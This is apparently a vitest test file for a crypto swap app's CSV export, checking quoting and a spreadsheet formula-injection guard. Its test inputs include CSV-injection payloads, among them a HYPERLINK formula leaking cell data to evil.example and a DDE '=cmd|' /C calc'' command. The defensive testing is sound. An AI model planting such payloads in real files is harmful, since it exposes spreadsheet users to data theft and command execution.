// CSV export (src/ui/csv.ts): RFC 4180 quoting, CRLF, the formula-injection guard (OWASP, "CSV Injection":
// https://owasp.org/www-community/attacks/CSV_Injection) after any separator a spreadsheet may split on,
// the `sep=,` line, every history column.

import { describe, expect, it } from 'vitest';
import type { ActivityItem } from '../../../src/api/activity';
import type { HistoryItem } from '../../../src/api/swapApi';
import { phrase } from '../../../src/core/phrase';
import {
  ACTIVITY_CSV_COLUMNS,
  activityCsv,
  csvCell,
  csvHeader,
  HISTORY_CSV_COLUMNS,
  historyCsv,
  toCsv,
} from '../../../src/ui/csv';

/**
 * How a spreadsheet reads the file with `sep` as its separator: `quotes` true, a field that starts with
 * a double quote runs to its closing quote (RFC 4180; Excel, LibreOffice and Google Sheets do this);
 * false, quotes are ordinary characters (the worst reader). Rows end at CR, LF or CRLF outside quotes.
 */
function readCsv(text: string, sep: string, quotes: boolean): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let atStart = true;
  const endField = () => {
    row.push(field);
    field = '';
    atStart = true;
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (atStart && quotes && c === '"') {
      atStart = false;
      for (i++; i < text.length; i++) {
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i++;
        } else if (text[i] === '"') break;
        else field += text[i];
      }
      continue;
    }
    atStart = false;
    if (c === sep) endField();
    else if (c === '\r' || c === '\n') {
      endField();
      rows.push(row);
      row = [];
      if (c === '\r' && text[i + 1] === '\n') i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) {
    endField();
    rows.push(row);
  }
  return rows;
}

/** A field a spreadsheet would run: after leading whitespace it starts with one of these (the full-width forms too). */
const FORMULA_START = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A field that is a plain number is read as that number, never as a formula. */
const PLAIN_NUMBER = /^\s*-?\d+(\.\d+)?$/;
/** The fields of `text`, read with `sep`, that a spreadsheet would run as formulas. */
const formulas = (text: string, sep: string, quotes: boolean) =>
  readCsv(text, sep, quotes)
    .flat()
    .filter((f) => FORMULA_START.test(f) && !PLAIN_NUMBER.test(f));

const item: HistoryItem = {
  key: 'addr_memo',
  source: 'both',
  originAsset: 'nep141:wrap.near',
  destinationAsset: 'nep141:eth.omft.near',
  depositAddress: 'addr',
  depositMemo: null,
  recipient: 'bob.near',
  status: 'SUCCESS',
  createdAt: '2026-01-02T03:04:05.000Z',
  amountIn: '1500000000000000000000000',
  amountOut: '1000000000000000',
  amountInFormatted: '1.5',
  amountOutFormatted: '0.001',
  amountInUsd: '4.5',
  amountOutUsd: null,
  refundReason: null,
  referral: 'ref',
  intentHashes: ['i1', 'i2'],
  homeTxHashes: [],
  originChainTxHashes: ['o1'],
  destinationChainTxHashes: ['d1'],
  senders: ['alice.near'],
  refundTo: 'alice.near',
  localId: 'L1',
};

describe('csv', () => {
  it('quotes only what needs quoting and doubles quotes', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\rhere')).toBe('"cr\rhere"');
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell(true)).toBe('true');
  });

  it('keeps spreadsheets from running formulas, but leaves numbers alone', () => {
    expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvCell('+1+1')).toBe('"\'+1+1"');
    expect(csvCell('@SUM(A1)')).toBe('"\'@SUM(A1)"');
    expect(csvCell('-5')).toBe('-5');
    expect(csvCell('-1.25')).toBe('-1.25');
    expect(csvCell('-cmd')).toBe('"\'-cmd"');
  });

  it('names its separator on the first line, joins rows with CRLF and ends with one', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['1', 'x,y'],
          [null, '"'],
        ],
      ),
    ).toBe('sep=,\r\na,b\r\n1,"x,y"\r\n,""""\r\n');
  });

  it('exports every loaded history row with the columns in order', () => {
    const csv = historyCsv([item, { ...item, key: 'k2', recipient: 'has,comma', status: 'REFUNDED' }]);
    const lines = csv.split('\r\n');
    expect(lines.shift()).toBe('sep=,');
    expect(lines[0]).toBe(csvHeader(HISTORY_CSV_COLUMNS, 'mainnet').join(','));
    expect(lines).toHaveLength(4);
    expect(lines[1]).toBe(
      '2026-01-02T03:04:05.000Z,SUCCESS,both,nep141:wrap.near,1.5,4.5,nep141:eth.omft.near,0.001,,addr,,bob.near,alice.near,,ref,alice.near,o1,,d1,i1 i2,L1',
    );
    expect(lines[2]).toContain(',"has,comma",');
    expect(lines[3]).toBe('');
  });

  it('exports Activity: swaps with their flow, intents in the columns they share and their own', () => {
    const intent: ActivityItem = {
      type: 'intent',
      key: 'intent:H1',
      at: Date.parse('2026-01-02T03:04:06.000Z'),
      intent: {
        intentHash: 'H1',
        accountId: 'alice.near',
        kind: 'dapp',
        origin: 'https://app.example',
        summary: [phrase('describe_give', '1 wNEAR'), phrase('describe_receive', '3 USDC')],
        receivers: [],
        createdAt: Date.parse('2026-01-02T03:04:06.000Z'),
        status: 'SETTLED',
        detail: null,
        txHash: 'T1',
        checkedAt: null,
      },
    };
    const swap: ActivityItem = {
      type: 'swap',
      key: item.key,
      at: Date.parse(item.createdAt),
      swap: { ...item, flow: 'withdraw' },
    };
    const lines = activityCsv([intent, swap]).split('\r\n').slice(1);
    expect(lines[0]).toBe(csvHeader(ACTIVITY_CSV_COLUMNS, 'mainnet').join(','));
    expect(lines[0]).toMatch(/^createdAt,status,source,.*,localId,kind,account,site,summary$/);
    const cells = Object.fromEntries(ACTIVITY_CSV_COLUMNS.map((c, i) => [c, readCsv(lines[1]!, ',', true)[0]![i]]));
    expect(cells).toMatchObject({
      createdAt: '2026-01-02T03:04:06.000Z',
      status: 'SETTLED',
      source: 'local',
      intentHashes: 'H1',
      homeTxHashes: 'T1',
      kind: 'dapp',
      account: 'alice.near',
      site: 'https://app.example',
      summary: 'Give 1 wNEAR; Receive 3 USDC',
      originAsset: '',
    });
    expect(lines[2]).toBe(`${historyCsv([item]).split('\r\n')[2]},withdraw,,,`);
  });

  const TRIGGERS = ['=', '+', '-', '@', '\uFF1D'];
  const SEPARATORS = [',', ';', '\t', '\r', '\n', '\r\n'];
  const READERS = [',', ';', '\t'].flatMap((sep) => [true, false].map((quotes) => ({ sep, quotes })));

  it('neutralises a formula that starts after any separator or after leading whitespace, whatever separator the file is read with', () => {
    const hostile: string[] = [
      'thanks;=HYPERLINK("http://evil.example/?"&A1,"click")',
      '=1+2";=1+2',
      '=1+2\'" ;,=1+2',
      ' =1+2',
      '\t=1+2',
      '\r=1+2',
      '\tcmd',
      '\rcmd',
    ];
    for (const sep of SEPARATORS) {
      for (const t of TRIGGERS)
        hostile.push(
          `note${sep}${t}cmd|' /C calc'!A0`,
          `note${sep}  ${t}1+1`,
          `${t}SUM(A1)${sep}x`,
          `"quoted"${sep}${t}1`,
        );
    }
    for (const cell of hostile) {
      const written = toCsv(['memo'], [[cell]]);
      for (const { sep, quotes } of READERS) {
        expect(
          formulas(written, sep, quotes),
          `${JSON.stringify(cell)} read with ${JSON.stringify(sep)}, quotes ${quotes}`,
        ).toEqual([]);
      }
      // The file's own reader gets the cell back whole: one field, the text with an apostrophe before each formula start.
      const back = readCsv(written, ',', true)[2]!;
      expect(back, JSON.stringify(cell)).toHaveLength(1);
      expect(back[0]!.replace(/'/g, ''), JSON.stringify(cell)).toBe(cell.replace(/'/g, ''));
    }
  });

  it('a neutralised cell is quoted, with an apostrophe before each formula start (and before a leading tab or CR)', () => {
    expect(csvCell('thanks;=HYPERLINK("x")')).toBe('"thanks;\'=HYPERLINK(""x"")"');
    expect(csvCell('=1+2";=1+2')).toBe('"\'=1+2"";\'=1+2"');
    expect(csvCell('a\t@x')).toBe('"a\t\'@x"');
    expect(csvCell('a, -b')).toBe('"a, \'-b"');
    expect(csvCell(' +1')).toBe('" \'+1"');
    expect(csvCell('\tx')).toBe('"\'\tx"');
    expect(csvCell('\rx')).toBe('"\'\rx"');
  });

  it('a cell with a separator but no formula is quoted and kept as it is; formula characters inside words are left alone', () => {
    expect(csvCell('Give 1 wNEAR; Receive 3 USDC')).toBe('"Give 1 wNEAR; Receive 3 USDC"');
    expect(csvCell('tab\there')).toBe('"tab\there"');
    expect(csvCell('a-b@c.d=e+f')).toBe('a-b@c.d=e+f');
  });

  it('numbers stay numbers', () => {
    for (const n of ['-5', '-1.25', '12.5', '0', '7']) expect(csvCell(n)).toBe(n);
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(1e-7)).toBe('1e-7');
    expect(csvCell('1,000')).toBe('"1,000"');
  });

  it('the exported Activity file holds no formula in any cell, read with comma, semicolon or tab, with or without quotes', () => {
    const evil = 'thanks;=HYPERLINK("http://evil.example/?"&A1,"click")';
    const intent: ActivityItem = {
      type: 'intent',
      key: 'intent:H1',
      at: 1,
      intent: {
        intentHash: '=H1',
        accountId: 'alice.near',
        kind: 'dapp',
        origin: 'https://app.example\t@SUM(1)',
        summary: [
          phrase('describe_give', '1 wNEAR'),
          phrase('describe_asRecorded', "=cmd|' /C calc'!A0"),
          phrase('describe_asRecorded', evil),
        ],
        receivers: [],
        createdAt: 1,
        status: 'FAILED',
        detail: '+1',
        txHash: 'T1,-2+3',
        checkedAt: null,
      },
    };
    const swap: ActivityItem = {
      type: 'swap',
      key: item.key,
      at: 2,
      swap: {
        ...item,
        depositMemo: evil,
        recipient: 'bob.near\r\n=1+1',
        refundReason: ' @x',
        senders: ['a.near', '-b'],
        amountInFormatted: '-1.5',
        flow: 'withdraw',
      },
    };
    const file = activityCsv([intent, swap]);
    expect(file.startsWith('sep=,\r\n')).toBe(true);
    for (const { sep, quotes } of READERS)
      expect(formulas(file, sep, quotes), `read with ${JSON.stringify(sep)}, quotes ${quotes}`).toEqual([]);
    // The comma reader gets every column; numbers are still numbers.
    const rows = readCsv(file, ',', true);
    expect(rows[1]).toEqual(csvHeader(ACTIVITY_CSV_COLUMNS, 'mainnet'));
    expect(rows[2]).toHaveLength(ACTIVITY_CSV_COLUMNS.length);
    expect(rows[3]).toHaveLength(ACTIVITY_CSV_COLUMNS.length);
    expect(rows[3]![ACTIVITY_CSV_COLUMNS.indexOf('amountInFormatted')]).toBe('-1.5');
    expect(rows[2]![ACTIVITY_CSV_COLUMNS.indexOf('summary')]).toBe(
      `Give 1 wNEAR; '=cmd|' /C calc'!A0; thanks;'=HYPERLINK("http://evil.example/?"&A1,"click")`,
    );
  });
});
